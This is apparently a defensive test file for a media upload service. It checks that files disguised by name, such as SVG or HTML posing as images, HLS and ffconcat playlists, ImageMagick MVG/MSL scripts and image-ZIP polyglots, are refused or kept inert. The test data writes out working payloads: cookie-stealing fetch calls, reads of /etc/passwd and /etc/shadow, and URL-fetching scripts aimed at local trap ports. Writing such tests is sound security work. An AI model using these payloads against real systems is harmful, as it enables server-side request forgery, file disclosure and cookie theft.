import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { startTestApp, type TestApp } from '../support/app';
import { blobFiles, expectUnharmed, trapConnections, type Trap } from '../support/hostile';
import { request, upload } from '../support/http';
import { seededRandom } from '../support/random';
import { makeZip } from '../support/zip';
import { ffmpeg, lavfi } from '../support/ffmpeg';

/*
 * Type confusion: what a file is named or declared as is not trusted. Markup a browser
 * would render (HTML, SVG, XML scripts) is 415 whatever its name; plain text that a tool
 * would execute (an HLS playlist, an ffconcat script, an ImageMagick MVG script) may be kept
 * as a text/plain document or refused with 415, but never reaches a decoder, and nothing it
 * names is ever fetched. A polyglot is stored as the one format it was accepted as.
 */

const work = mkdtempSync(join(tmpdir(), 'media-test-hostile-types-'));
let owners = 0;

describe('type confusion', () => {
  let t: TestApp;
  let trap: Trap;
  beforeAll(async () => {
    t = await startTestApp();
    trap = await trapConnections(4);
  });
  afterAll(async () => {
    await trap.close();
    await t.close();
    rmSync(work, { recursive: true, force: true });
  });

  /** Uploads `bytes` as `name` for a new user; returns the reply and what must hold after it. */
  async function attempt(name: string, bytes: Buffer) {
    const owner = `confused-${++owners}`;
    const token = await t.token(owner);
    const blobsBefore = blobFiles(t).length;
    const reply = await upload(t.url, token, {
      name,
      bytes,
      type: name.endsWith('.jpg') ? 'image/jpeg' : 'application/octet-stream',
    });
    return { reply, owner, token, blobsBefore };
  }

  const [web, playlistPort, nestedPort, mvgPort] = [0, 1, 2, 3];
  const port = (i: number) => trap.ports[i];

  describe('markup a browser would render is 415 whatever it is named', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.domain)"><rect width="10" height="10"/></svg>';
    it.each([
      ['SVG named .jpg', 'photo.jpg', () => Buffer.from(svg)],
      [
        'SVG with an XML declaration named .png',
        'logo.png',
        () => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${svg}`),
      ],
      [
        'SVG after a DOCTYPE named .jpg',
        'chart.jpg',
        () =>
          Buffer.from(
            `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg}`,
          ),
      ],
      [
        'SVG after a byte-order mark and blank lines named .webp',
        'sticker.webp',
        () => Buffer.from(`\uFEFF\n\n  ${svg}`),
      ],
      [
        'SVG in UTF-16 named .gif',
        'anim.gif',
        () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg, 'utf16le')]),
      ],
      [
        'HTML named .jpg',
        'avatar.jpg',
        () =>
          Buffer.from(
            `<!DOCTYPE html><html><body><script>fetch('http://127.0.0.1/'+document.cookie)</script></body></html>`,
          ),
      ],
      ['a bare <script> named .gif', 'smile.gif', () => Buffer.from('<script>alert(1)</script>\n')],
      [
        'an ImageMagick MSL script named .png',
        'convert.png',
        () =>
          Buffer.from(
            '<?xml version="1.0" encoding="UTF-8"?>\n<image><read filename="/etc/passwd"/><write filename="/tmp/out.png"/></image>\n',
          ),
      ],
    ])('%s → 415 UNSUPPORTED_MEDIA_TYPE, nothing kept', async (_label, name, bytes) => {
      const { reply, ...kept } = await attempt(name, bytes());
      expect([reply.status, reply.json?.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
      await expectUnharmed(t, { ...kept, refused: true });
    });
  });

  /** 415, or a text/plain document served as a download: both are the contract's; a decoded media type is not. */
  async function expectTextOrRefused(name: string, bytes: Buffer) {
    const { reply, ...kept } = await attempt(name, bytes);
    if (reply.status === 415) {
      expect(reply.json.code).toBe('UNSUPPORTED_MEDIA_TYPE');
      return expectUnharmed(t, { ...kept, refused: true });
    }
    expect(reply.status).toBe(201);
    expect(reply.json).toMatchObject({
      type: 'document',
      mimeType: 'text/plain',
      originalMimeType: 'text/plain',
      metadata: { charset: 'utf-8' },
    });
    const served = await request(`${t.url}/api/v1/media/${reply.json.id}`, { token: kept.token });
    expect(served.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(served.headers.get('content-disposition')).toMatch(/^attachment; filename="?[^"]+\.txt"?(;|$)/);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.body.equals(bytes)).toBe(true);
    await expectUnharmed(t, { ...kept, refused: false });
  }

  /** After the answer and a moment more: nothing the file named was contacted. */
  async function expectNoConnection() {
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(trap.connections()).toBe(0);
  }

  describe('text a tool would execute is kept as text or refused, never decoded, never followed', () => {
    const hls = () =>
      Buffer.from(
        [
          '#EXTM3U',
          '#EXT-X-VERSION:3',
          '#EXT-X-TARGETDURATION:10',
          '#EXT-X-MEDIA-SEQUENCE:0',
          '#EXTINF:10.0,',
          `http://127.0.0.1:${port(playlistPort)}/x.ts`,
          '#EXTINF:10.0,',
          'file:///etc/passwd',
          '#EXTINF:10.0,',
          `http://127.0.0.1:${port(nestedPort)}/sub.m3u8`,
          '#EXT-X-ENDLIST',
          '',
        ].join('\n'),
      );
    const ffconcat = () =>
      Buffer.from(
        `ffconcat version 1.0\nfile '/etc/passwd'\nfile 'http://127.0.0.1:${port(playlistPort)}/y.mp4'\nfile 'subfile,,start,0,end,0,,:/etc/shadow'\n`,
      );

    it.each([
      ['an HLS playlist named clip.mp4', 'clip.mp4', hls],
      ['an HLS playlist named movie.avi', 'movie.avi', hls],
      ['an HLS playlist named song.m4a', 'song.m4a', hls],
      ['an ffconcat script naming /etc/passwd named clip.mp4', 'clip.mp4', ffconcat],
      ['an ffconcat script named movie.mov', 'movie.mov', ffconcat],
    ])('%s', async (_label, name, bytes) => {
      await expectTextOrRefused(name, bytes());
      await expectNoConnection();
    });

    it('an ImageMagick MVG script fetching a URL, named image.png', async () => {
      const mvg = `push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'http://127.0.0.1:${port(mvgPort)}/x.png'\nimage over 0,0 0,0 'msl:/etc/passwd'\npop graphic-context\n`;
      await expectTextOrRefused('image.png', Buffer.from(mvg));
      await expectNoConnection();
    });

    it('a JavaScript file named photo.jpg', async () => {
      await expectTextOrRefused(
        'photo.jpg',
        Buffer.from(`fetch('http://127.0.0.1:${port(web)}/steal?c=' + document.cookie);\n`),
      );
      await expectNoConnection();
    });
  });

  describe('a container head in front of a playlist is opened only with its own demuxer', () => {
    const playlist = () =>
      Buffer.from(`#EXTM3U\n#EXTINF:10.0,\nhttp://127.0.0.1:${port(playlistPort)}/x.ts\n#EXT-X-ENDLIST\n`);
    it.each([
      ['an MP4 ftyp box followed by an HLS playlist', 'clip.mp4', () => Buffer.concat([mp4Head(), playlist()])],
      ['a RIFF/AVI header followed by an HLS playlist', 'clip.avi', () => Buffer.concat([aviHead(), playlist()])],
    ])('%s → 422 CORRUPT_FILE (or 415), nothing fetched', async (_label, name, bytes) => {
      const { reply, ...kept } = await attempt(name, bytes());
      expect([
        [422, 'CORRUPT_FILE'],
        [415, 'UNSUPPORTED_MEDIA_TYPE'],
      ]).toContainEqual([reply.status, reply.json?.code]);
      await expectUnharmed(t, { ...kept, refused: true });
      await expectNoConnection();
    });

    it('an MP4 whose data reference names a URL: decoded from its own bytes, the URL never opened', async () => {
      const path = join(work, 'dref.mp4');
      // No faststart: the index comes after the media data, so growing it moves no sample offset.
      ffmpeg(
        ...lavfi('testsrc2=size=160x120:rate=10:duration=1'),
        '-c:v',
        'libx264',
        '-preset',
        'ultrafast',
        '-pix_fmt',
        'yuv420p',
        path,
      );
      const bytes = withExternalDataReference(readFileSync(path), `http://127.0.0.1:${port(playlistPort)}/remote.mp4`);
      const { reply, ...kept } = await attempt('remote.mp4', bytes);
      expect([201, 422]).toContain(reply.status);
      if (reply.status === 422) expect(reply.json.code).toBe('CORRUPT_FILE');
      await expectUnharmed(t, { ...kept, refused: reply.status !== 201 });
      await expectNoConnection();
    });
  });

  describe('polyglots are stored as the one format they were accepted as', () => {
    const zip = () =>
      makeZip([
        { name: 'payload.html', data: Buffer.from('<html><script>alert(1)</script></html>') },
        { name: 'run.sh', data: Buffer.from('#!/bin/sh\nid\n') },
      ]);
    const hasZip = (bytes: Buffer) =>
      bytes.includes(Buffer.from([0x50, 0x4b, 0x03, 0x04])) || bytes.includes(Buffer.from([0x50, 0x4b, 0x05, 0x06]));

    it.each([
      // Re-encoding makes this one smaller: the stored version is a new JPEG.
      [
        'a detailed JPEG followed by a ZIP',
        'photo.jpg',
        async () => noise(640, 480, 1).jpeg({ quality: 95 }).toBuffer(),
      ],
      // Re-encoding at the service's quality makes this one larger, so the upload itself would be kept.
      [
        'a coarse JPEG followed by a ZIP',
        'thumb.jpg',
        async () => noise(200, 150, 2).blur(1).jpeg({ quality: 20 }).toBuffer(),
      ],
      [
        'a PNG followed by a ZIP after IEND',
        'icon.png',
        async () =>
          sharp({ create: { width: 64, height: 64, channels: 4, background: '#ff000080' } })
            .png()
            .toBuffer(),
      ],
    ])('%s: accepted as an image, the ZIP not kept', async (_label, name, image) => {
      const polyglot = Buffer.concat([await image(), zip()]);
      const { reply, token, ...kept } = await attempt(name, polyglot);
      expect(reply.status).toBe(201);
      expect(reply.json.type).toBe('image');
      const served = await request(`${t.url}/api/v1/media/${reply.json.id}`, { token });
      expect(served.headers.get('content-type')).toMatch(/^image\/(jpeg|png|webp)$/);
      expect(hasZip(served.body)).toBe(false);
      await expectUnharmed(t, { ...kept, token, refused: false });
    });
  });
});

/** Seeded noise, so the encoder has detail to keep. */
function noise(width: number, height: number, seed: number): sharp.Sharp {
  const random = seededRandom(seed);
  const pixels = Buffer.alloc(width * height * 3);
  for (let i = 0; i < pixels.length; i++) pixels[i] = Math.floor(random() * 256);
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

const box = (type: string, ...content: Buffer[]) => {
  const body = Buffer.concat(content);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
};

/** An ISO BMFF `ftyp` box, as file-type needs to call a file MP4. */
function mp4Head(): Buffer {
  return box('ftyp', Buffer.from('isom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2avc1mp41'));
}

/** The first bytes of an AVI: RIFF size "AVI " LIST hdrl. */
function aviHead(): Buffer {
  const head = Buffer.alloc(24);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(4096, 4);
  head.write('AVI LIST', 8, 'latin1');
  head.writeUInt32LE(4, 16);
  head.write('hdrl', 20, 'latin1');
  return head;
}

/**
 * The MP4 with its first track's data reference replaced by one external `url ` entry
 * (ISO 14496-12 §8.7.2, flags 0: the media data is elsewhere). Every enclosing box grows by
 * as much; the index must come after the media data (no faststart).
 */
function withExternalDataReference(mp4: Buffer, url: string): Buffer {
  const chain: { start: number; size: number }[] = [];
  let [from, to] = [0, mp4.length];
  for (const type of ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref']) {
    let at = from;
    while (at + 8 <= to && mp4.toString('latin1', at + 4, at + 8) !== type) at += mp4.readUInt32BE(at);
    if (at + 8 > to) throw new Error(`no ${type} box`);
    chain.push({ start: at, size: mp4.readUInt32BE(at) });
    [from, to] = [at + 8, at + mp4.readUInt32BE(at)];
  }
  const dref = chain[chain.length - 1];
  const external = box('url ', Buffer.from([0, 0, 0, 0]), Buffer.from(`${url}\0`));
  const replaced = box('dref', Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), external);
  const out = Buffer.concat([mp4.subarray(0, dref.start), replaced, mp4.subarray(dref.start + dref.size)]);
  for (const parent of chain.slice(0, -1)) out.writeUInt32BE(parent.size + replaced.length - dref.size, parent.start);
  return out;
}
